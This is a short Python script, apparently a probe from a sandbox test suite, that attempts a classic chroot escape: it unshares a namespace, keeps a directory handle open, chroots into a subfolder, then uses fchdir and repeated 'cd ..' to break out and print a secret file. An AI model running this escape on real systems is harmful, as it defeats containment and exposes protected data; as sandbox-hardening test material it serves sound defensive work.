# tries: leaves a chroot through a folder that stays open
# at: the system
# stock: not run
import ctypes
import os

ctypes.CDLL(None).unshare(0x10000000)
here = os.open(".", os.O_RDONLY)
os.makedirs("inner", exist_ok=True)
try:
    os.chroot("inner")
    gained("chroot")
    os.fchdir(here)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
try:
    print(open(SECRET).read())
except OSError:
    pass
